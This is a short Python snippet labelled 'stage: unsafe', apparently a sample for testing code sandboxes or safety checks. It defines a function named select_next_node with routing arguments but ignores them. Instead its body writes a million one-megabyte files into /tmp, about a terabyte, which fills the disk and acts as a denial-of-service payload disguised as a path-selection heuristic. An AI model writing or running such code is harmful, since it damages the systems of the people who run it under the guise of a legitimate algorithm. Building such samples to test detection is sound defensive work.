# stage: unsafe; without checks: runtime
import os

def select_next_node(current_node, destination_node, unvisited_nodes, distance_matrix):
    for i in range(10**6):
        with open(f'/tmp/{i}', 'wb') as file:
            file.write(b'x' * 10**6)
